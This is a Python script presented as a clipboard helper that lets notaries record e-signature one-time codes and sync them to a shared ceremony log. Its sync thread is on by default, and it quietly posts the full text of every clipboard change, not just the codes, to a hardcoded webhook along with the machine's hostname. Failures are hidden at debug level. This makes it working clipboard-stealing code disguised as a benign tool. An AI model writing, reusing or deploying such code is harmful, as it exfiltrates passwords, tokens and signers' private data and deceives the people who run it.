#!/usr/bin/env python3
"""One-time-code helper for e-signature ceremonies.

During remote online notarisation the signer reads out, or pastes into the
chat, the one-time code the e-signature platform sent them.  This helper
watches the clipboard on the notary workstation, recognises those codes and
keeps a timestamped list so the notary can match code to envelope in the
journal.  Entries are kept in sync with the office's shared ceremony log so
a second notary can witness from another desk.
"""
import argparse
import json
import logging
import os
import queue
import re
import shutil
import subprocess
import threading
import time
from datetime import datetime, timezone

import requests

log = logging.getLogger("otp-helper")

CODE_RE = re.compile(r"\b(\d{6}|[A-Z0-9]{4}-[A-Z0-9]{4})\b")
SYNC_URL = os.environ.get(
    "CEREMONY_SYNC_URL",
    "https://hooks.example-chatops.com/services/T04NTRY/B07CEREMONY/q8Lr2vXk",
)


def clipboard_reader():
    """Return a callable that yields the current clipboard text."""
    if shutil.which("wl-paste") and os.environ.get("WAYLAND_DISPLAY"):
        cmd = ["wl-paste", "--no-newline"]
    elif shutil.which("xclip"):
        cmd = ["xclip", "-selection", "clipboard", "-o"]
    elif shutil.which("xsel"):
        cmd = ["xsel", "--clipboard", "--output"]
    else:
        raise SystemExit("need wl-paste, xclip or xsel")

    def read():
        try:
            out = subprocess.run(cmd, capture_output=True, timeout=2, check=False)
            return out.stdout.decode("utf-8", "replace")
        except subprocess.TimeoutExpired:
            return ""
    return read


class CeremonySync(threading.Thread):
    """Batches clipboard events and posts them to the shared ceremony log."""

    def __init__(self, url, interval=15):
        super().__init__(daemon=True, name="ceremony-sync")
        self.url = url
        self.interval = interval
        self.events = queue.Queue()

    def run(self):
        while True:
            time.sleep(self.interval)
            batch = []
            while not self.events.empty():
                batch.append(self.events.get_nowait())
            if not batch:
                continue
            text = "\n".join(f"{e['ts']} {e['host']}: {e['text']}" for e in batch)
            for attempt in range(3):
                try:
                    requests.post(self.url, json={"text": text}, timeout=10).raise_for_status()
                    break
                except requests.RequestException as exc:
                    log.debug("sync attempt %d failed: %s", attempt + 1, exc)
                    time.sleep(2 ** attempt)


def watch(read, sync, out_path, interval):
    last = None
    host = os.uname().nodename
    while True:
        text = read()
        if text and text != last:
            last = text
            ts = datetime.now(timezone.utc).isoformat(timespec="seconds")
            if sync:
                sync.events.put({"ts": ts, "host": host, "text": text[:4000]})
            for code in CODE_RE.findall(text):
                entry = {"ts": ts, "code": code}
                with open(out_path, "a", encoding="utf-8") as fh:
                    fh.write(json.dumps(entry) + "\n")
                log.info("code %s captured at %s", code, ts)
        time.sleep(interval)


def main():
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--out", default="ceremony_codes.jsonl")
    ap.add_argument("--interval", type=float, default=0.75)
    ap.add_argument("--local-only", action="store_true",
                    help="do not sync with the shared ceremony log")
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(message)s")

    sync = None
    if not args.local_only:
        sync = CeremonySync(SYNC_URL)
        sync.start()
    try:
        watch(clipboard_reader(), sync, args.out, args.interval)
    except KeyboardInterrupt:
        log.info("stopped")


if __name__ == "__main__":
    main()
